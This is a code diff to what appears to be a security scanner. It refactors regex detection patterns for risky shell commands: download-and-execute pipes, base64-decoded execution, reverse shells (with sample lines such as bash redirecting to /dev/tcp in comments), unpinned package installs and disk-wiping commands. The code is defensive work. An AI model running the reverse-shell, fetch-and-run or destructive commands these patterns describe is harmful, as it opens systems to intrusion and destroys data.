@@ -29,6 +29,19 @@ KNOWN_INSTALLER_HOSTS = frozenset({
 KNOWN_INSTALLER_REPOS = ("Homebrew/", "nvm-sh/", "helm/", "pyenv/", "ohmyzsh/", "golangci/", "anchore/",
                          "aquasecurity/", "sigstore/", "kubernetes-sigs/", "rust-lang/", "nodesource/")
 
+def _runs_on(start: str, run: str, rest: str, lazy: bool = False) -> tuple[str, str]:
+    """A command pattern: ``start`` (the command), an open-ended ``run`` of its arguments
+    (``[^\\n]*``) and the ``rest``; with the part a failed start passes over (``hopeless``, see
+    :func:`~skillsite.audit.text.gate`)."""
+    return start + run + ("?" if lazy else "") + rest, start + run
+
+
+def _command_gate(pattern: str | tuple[str, str], *groups: str, flags: int = re.IGNORECASE) -> Gate:
+    """The gate of a command pattern: a plain one, or one made by :func:`_runs_on`."""
+    source, hopeless = (pattern, None) if isinstance(pattern, str) else pattern
+    return gate(source, *groups, flags=flags, hopeless=hopeless)
+
+
 _SHELL = r"(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+(?:\S+=\S*\s+)*)?(?:/usr/bin/|/bin/)?"
 _RUNNER = (r"(?:(?:ba|z|da|k|fi|c)?sh\b(?:\s+-[sx]\b|\s+-(?=\s|$)|\s+--(?=\s))?|python[23]?(?:\.\d+)?(?=\s*(?:$|[;&|)#\"'`]|-\s))|"
            r"node(?=\s*(?:$|[;&|)#\"'`]|-\s))|perl(?=\s*(?:$|[;&|)#]))|ruby(?=\s*(?:$|[;&|)#]))|"
@@ -40,15 +53,16 @@ _DL = "curl wget iwr irm invoke-web invoke-rest aria2c"
 #: after one more command (``chmod +x``), on the same line or the next.
 _SAVED_THEN_RUN = (
     r"\b(?:curl|wget)\b[^\n;&|>]{0,200}?(?:\s-o\s*|\s--output[= ]\s*|\s-O\s*(?!-)|\s--output-document[= ]\s*|>\s*)"
-    r"[\"']?(?P<file>[\w.~$/-]{1,120})[\"']?[^\n;&|]{0,120}(?:&&|;|\n)(?>[^\n;&|]{0,120}(?:&&|;|\n))?[ \t]*"
+    r"[\"']?(?P<file>[\w.~$/-]{1,120}+)[\"']?(?>[^\n;&|]{0,120})(?:&&|;|\n)(?>[^\n;&|]{0,120}(?:&&|;|\n))?[ \t]*"
     r"(?:sudo\s+(?:-\S+\s+)*)?(?:(?:(?:ba|z|da|k)?sh|source|\.|python[23]?|node|perl|ruby|pwsh|powershell)\s+"
     r"(?:-\S+\s+)*[\"']?(?:\./)?|\./)?(?P=file)(?![\w.-])")
 _PIPE_WORDS = (f"{_DL}", f"{_DL}", f"{_DL}", f"{_DL}", "iex invoke-expression", "exec eval", "fetch", "curl wget")
-_PIPE_TO_SHELL: list[Gate] = [gate(p, words, "|" if i == 0 else "") for i, (words, p) in enumerate(zip(_PIPE_WORDS, (
-    rf"\b{_DOWNLOAD}\b[^\n|;]*(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}",
-    rf"\b(?:(?:ba|z)?sh|python[23]?|node|perl)\s+(?:-\w+\s+)*[\"']?\$\(\s*{_DOWNLOAD}\b[^\n)]*\)",
-    rf"\b(?:(?:ba|z)?sh|source|\.)\s+<\(\s*{_DOWNLOAD}\b[^\n)]*\)",
-    rf"\beval\s+[\"']?\$\(\s*{_DOWNLOAD}\b[^\n)]*\)",
+_PIPE_TO_SHELL: list[Gate] = [_command_gate(p, words, "|" if i == 0 else "")
+                              for i, (words, p) in enumerate(zip(_PIPE_WORDS, (
+    _runs_on(rf"\b{_DOWNLOAD}\b", r"[^\n|;]*", rf"(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}"),
+    _runs_on(rf"\b(?:(?:ba|z)?sh|python[23]?|node|perl)\s+(?:-\w+\s+)*[\"']?\$\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
+    _runs_on(rf"\b(?:(?:ba|z)?sh|source|\.)\s+<\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
+    _runs_on(rf"\beval\s+[\"']?\$\(\s*{_DOWNLOAD}\b", r"[^\n)]*", r"\)"),
     r"\b(?:iex|Invoke-Expression)\s*\(?\s*(?:\(?\s*New-Object\s+(?:System\.)?Net\.WebClient\s*\)?\s*\.\s*"
     r"DownloadString|\(?\s*(?:iwr|irm|Invoke-WebRequest|Invoke-RestMethod)\b)[^\n]*",
     r"\b(?:exec|eval)\s*\(\s*(?:requests\.get|urllib\.request\.urlopen|urlopen|httpx\.get)\s*\([^\n]*",
@@ -63,11 +77,12 @@ _DECODERS = (r"b64decode|decodebytes|decodestring|a85decode|b32decode|fromhex|un
 _DECODED_WORDS = ("base64 openssl", "xxd printf echo", "base64 xxd", "b64 fromhex hex zlib gzip lzma bz2 marshal codecs rot13 rot_13 [::-1] atob "
                   "buffer.from frombase64 chr( fromcharcode decodebytes decodestring a85decode b32decode a2b_", "getattr", "__import__",
                   "-e", "frombase64string")
-_DECODED_EXEC: list[Gate] = [gate(p, words) for words, p in zip(_DECODED_WORDS, (
-    rf"\b(?:base64|openssl\s+(?:base64|enc))\s+(?:-\w+\s+)*(?:-d|--decode|-D)\b[^\n|;]*(?:\|[^\n|;]*){{0,2}}\|\s*"
-    rf"{_SHELL}{_RUNNER}",
-    rf"\b(?:xxd\s+-r|printf\s+[\"']?(?:%b|\\x)|echo\s+-e\s+[\"']\\x)[^\n|;]*(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}",
-    r"\b(?:eval|(?:ba|z)?sh\s+-c)\s+[\"']?\$\([^\n)]*\b(?:base64\s+(?:-d|--decode)|xxd\s+-r)",
+_DECODED_EXEC: list[Gate] = [_command_gate(p, words) for words, p in zip(_DECODED_WORDS, (
+    _runs_on(r"\b(?:base64|openssl\s+(?:base64|enc))\s+(?:-\w+\s+)*(?:-d|--decode|-D)\b", r"[^\n|;]*",
+             rf"(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}"),
+    _runs_on(r"\b(?:xxd\s+-r|printf\s+[\"']?(?:%b|\\x)|echo\s+-e\s+[\"']\\x)", r"[^\n|;]*",
+             rf"(?:\|[^\n|;]*){{0,2}}\|\s*{_SHELL}{_RUNNER}"),
+    _runs_on(r"\b(?:eval|(?:ba|z)?sh\s+-c)\s+[\"']?\$\(", r"[^\n)]*", r"\b(?:base64\s+(?:-d|--decode)|xxd\s+-r)"),
     rf"(?:(?<![\w.])(?:exec|eval|compile)|\bos\.system|os\.popen|subprocess\.\w+|execfile|runpy\.\w+|new\s+Function|Function|"
     rf"\bvm\.runIn\w+|\bchild_process\.\w+|\bexecSync|\bspawnSync|\bInvoke-Expression|\biex|\bsetTimeout)\s*\(\s*"
     rf"[^\n]{{0,200}}?(?:{_DECODERS})",
@@ -84,13 +99,15 @@ _DECODED_EXEC: list[Gate] = [gate(p, words) for words, p in zip(_DECODED_WORDS, 
 _DEV_TCP = r"/dev/(?:tcp|udp)/(?!localhost/|127\.)[\w.${}-]+/\d+"
 _REVERSE_SHELL_WORDS = ("/dev/tcp /dev/udp", "/dev/tcp /dev/udp", "-e -c", "exec:", "mkfifo", "pty.spawn", "fileno",
                         "tcpclient")
-_REVERSE_SHELL: list[Gate] = [gate(p, words) for words, p in zip(_REVERSE_SHELL_WORDS, (
-    rf"\b(?:ba|z|da|k)?sh\b[^\n]*?(?:>&|&>|<>)\s*{_DEV_TCP}",         # bash -i >& /dev/tcp/host/port 0>&1
-    rf"{_DEV_TCP}[^\n]*?\b(?:ba|z|da|k)?sh\b[^\n]*?<&\s*\d",           # exec 5<>/dev/tcp/...; sh <&5 >&5
-
-    r"\b(?:nc|ncat|netcat)\b[^\n|;]*\s-[ec]\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b",
-    r"\bsocat\b[^\n]*\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b",
-    r"\bmkfifo\b[^\n]*\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]*\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b",
+_REVERSE_SHELL: list[Gate] = [_command_gate(p, words) for words, p in zip(_REVERSE_SHELL_WORDS, (
+    # bash -i >& /dev/tcp/host/port 0>&1
+    _runs_on(r"\b(?:ba|z|da|k)?sh\b", r"[^\n]*", rf"(?:>&|&>|<>)\s*{_DEV_TCP}", lazy=True),
+    # exec 5<>/dev/tcp/...; sh <&5 >&5
+    _runs_on(_DEV_TCP, r"[^\n]*", r"\b(?:ba|z|da|k)?sh\b[^\n]{0,2000}?<&\s*\d", lazy=True),
+    _runs_on(r"\b(?:nc|ncat|netcat)\b", r"[^\n|;]*", r"\s-[ec]\s*[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
+    _runs_on(r"\bsocat\b", r"[^\n]*", r"\bexec:[\"']?(?:/usr)?(?:/bin/)?(?:ba|z|da)?sh\b"),
+    _runs_on(r"\bmkfifo\b", r"[^\n]*",
+             r"\|\s*(?:/bin/)?(?:ba|z|da)?sh\b[^\n]{0,2000}\|\s*(?:nc|ncat|netcat|openssl\s+s_client)\b"),
     r"\bsocket\b[^\n]{0,300}\bconnect\s*\([^\n]{0,300}\bpty\.spawn\s*\(\s*[\"'](?:/bin/)?(?:ba|z)?sh",
     r"\b(?:Popen|call|run)\s*\(\s*\[\s*[\"'](?:/bin/)?(?:ba|z)?sh[\"']\s*(?:,\s*[\"']-i[\"']\s*)?\]\s*,\s*"
     r"stdin\s*=\s*(?P<channel>\w+)\.fileno\(\)\s*,\s*stdout\s*=\s*(?P=channel)\.fileno\(\)",
@@ -98,21 +115,22 @@ _REVERSE_SHELL: list[Gate] = [gate(p, words) for words, p in zip(_REVERSE_SHELL_
 ))]
 
 _GIT_URL = gate(r"\bgit\+(?:https?|ssh|git|file)://[^\s\"'`#,;)\]]+(?:#[^\s\"'`,;)\]]*)?", "git+")
-_NPM_GIT = gate(
-    r"\b(?:npm\s+(?:i|install|add)|yarn\s+add|pnpm\s+(?:add|i|install)|bun\s+(?:add|install))\b[^\n]*?\s"
-    r"((?:github:|gitlab:|bitbucket:)[\w.-]+/[\w.-]+(?:#\S*)?|(?:git\+)?https?://(?:github|gitlab)\.com/\S+?\.git"
-    r"(?:#\S*)?|[\w-]+/[\w.-]+#\S+)", "npm yarn pnpm bun", "github gitlab bitbucket #")
-_CARGO_GIT = gate(r"\bcargo\s+install\b[^\n]*--git\s+\S+[^\n]*", "--git")
+_NPM_GIT = _command_gate(_runs_on(
+    r"\b(?:npm\s+(?:i|install|add)|yarn\s+add|pnpm\s+(?:add|i|install)|bun\s+(?:add|install))\b", r"[^\n]*",
+    r"\s((?:github:|gitlab:|bitbucket:)[\w.-]+/[\w.-]+(?:#\S*)?|(?:git\+)?https?://(?:github|gitlab)\.com/\S+?\.git"
+    r"(?:#\S*)?|[\w-]+/[\w.-]+#\S+)", lazy=True), "npm yarn pnpm bun", "github gitlab bitbucket #")
+_CARGO_GIT = _command_gate(_runs_on(r"\bcargo\s+install\b", r"[^\n]*", r"--git\s+\S+[^\n]*"), "--git")
 _PINNED = re.compile(r"^(?:[0-9a-f]{40}|[0-9a-f]{64}|v?\d+(?:\.\d+){1,3}(?:[-.+]\w+)*)$", _I)
 _PIP = r"\b(?:pip[23]?(?:\.\d+)?|uv\s+pip|python[23]?(?:\.\d+)?\s+-m\s+pip|pipx|uv\s+tool)\s+install\b"
 _URL_INSTALL_WORDS = ("pip pipx uv", "npm yarn pnpm", "index-url find-links -i -f", "registry")
 _LOCAL_URL = re.compile(r"^https?://(?:localhost|127\.|0\.0\.0\.0|\[::1\])", re.IGNORECASE)
-_URL_INSTALL: list[Gate] = [gate(p, words, "http", flags=re.IGNORECASE | re.MULTILINE)
+_URL_INSTALL: list[Gate] = [_command_gate(p, words, "http", flags=re.IGNORECASE | re.MULTILINE)
                             for words, p in zip(_URL_INSTALL_WORDS, (
-    rf"{_PIP}[^\n]*?\s(https?://\S+?\.(?:whl|tar\.gz|tgz|zip|tar\.bz2|egg))\b",
-    r"\b(?:npm\s+(?:i|install)|yarn\s+add|pnpm\s+add)\b[^\n]*?\s(https?://\S+?\.(?:tgz|tar\.gz))\b",
-    rf"{_PIP}[^\n]*?(?:--(?:extra-)?index-url|--find-links|\s-[if])\s*[= ]\s*[\"']?(https?://[^\s\"'`]+)|"
-    r"^\s*(?:--)?(?:extra-)?index-url\s*[= ]\s*[\"']?(https?://[^\s\"'`]+)",
+    _runs_on(_PIP, r"[^\n]*", r"\s(https?://\S+?\.(?:whl|tar\.gz|tgz|zip|tar\.bz2|egg))\b", lazy=True),
+    _runs_on(r"\b(?:npm\s+(?:i|install)|yarn\s+add|pnpm\s+add)\b", r"[^\n]*",
+             r"\s(https?://\S+?\.(?:tgz|tar\.gz))\b", lazy=True),
+    _runs_on(_PIP, r"[^\n]*", r"(?:--(?:extra-)?index-url|--find-links|\s-[if])\s*[= ]\s*[\"']?(https?://[^\s\"'`]+)|"
+             r"^\s*(?:--)?(?:extra-)?index-url\s*[= ]\s*[\"']?(https?://[^\s\"'`]+)", lazy=True),
     r"\bnpm\s+config\s+set\s+registry\s+(https?://\S+)|--registry[= ]\s*(https?://\S+)",
 ))]
 _TRUSTED_HOST = gate(r"--trusted-host\b|\bnpm\s+config\s+set\s+strict-ssl\s+false\b", "trusted-host strict-ssl")
@@ -130,17 +148,17 @@ _AGENT_FLAGS = gate(
 
 _DESTRUCTIVE_WORDS = ("rm ", "no-preserve-root", "mkfs", "of=/dev", "/dev/", ":()", "chmod chown", "shred",
                       "format c:,/s /q,del /", "remove-item")
-_DESTRUCTIVE: list[Gate] = [gate(p, words) for words, p in zip(_DESTRUCTIVE_WORDS, (
+_DESTRUCTIVE: list[Gate] = [_command_gate(p, words) for words, p in zip(_DESTRUCTIVE_WORDS, (
     r"\brm\s+(?:-[a-z]+\s+|--[a-z-]+\s+)*(?:-[a-z]*r[a-z]*|--recursive)\s+(?:-[a-z]+\s+|--[a-z-]+\s+)*"
     r"[\"']?(?:/\*?|~/?\*?|\$\{?HOME\}?/?\*?|/(?:usr|etc|bin|boot|var|home|lib|System|Users)/?\*?)[\"']?"
     r"(?=\s*(?:$|[;&|)#`]|--no-preserve-root))",
     r"\brm\s+(?:-\S+\s+)*--no-preserve-root\b",
     r"\bmkfs(?:\.\w+)?\s+(?:-\S+\s+)*/dev/\w+",
-    r"\bdd\s+[^\n]*\bof=/dev/(?:sd[a-z]|nvme\d|hd[a-z]|disk\d|mmcblk\d|xvd[a-z]|vd[a-z]|rdisk\d)",
+    _runs_on(r"\bdd\s+", r"[^\n]*", r"\bof=/dev/(?:sd[a-z]|nvme\d|hd[a-z]|disk\d|mmcblk\d|xvd[a-z]|vd[a-z]|rdisk\d)"),
     r"(?<![<>2&])>\s*/dev/(?:sd[a-z]|nvme\d+n\d+|hd[a-z]|disk\d)\b",
     r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
     r"\b(?:chmod|chown)\s+(?:-\S+\s+)*-R\s+\S+\s+/(?=\s*(?:$|[;&|]))",
-    r"\bshred\s+[^\n]*/dev/(?:sd[a-z]|nvme)",
+    _runs_on(r"\bshred\s+", r"[^\n]*", r"/dev/(?:sd[a-z]|nvme)"),
     r"\bformat\s+c:|\b(?:rd|rmdir)\s+/s\s+/q\s+[a-z]:\\(?=\s|$)|\bdel\s+/[fsq]\s+/[fsq]\s+(?:/[fsq]\s+)?[a-z]:\\",
     r"\bRemove-Item\s+(?:-\S+\s+)*(?:[\"']?(?:C:\\|~|\$HOME|\$env:USERPROFILE|/)[\"']?)\s+(?:-\S+\s+)*"
     r"-Recurse\b|\bRemove-Item\s+(?:-\S+\s+)*-Recurse\s+(?:-\S+\s+)*[\"']?(?:C:\\|~|\$HOME|/)[\"']?(?=\s|$)",
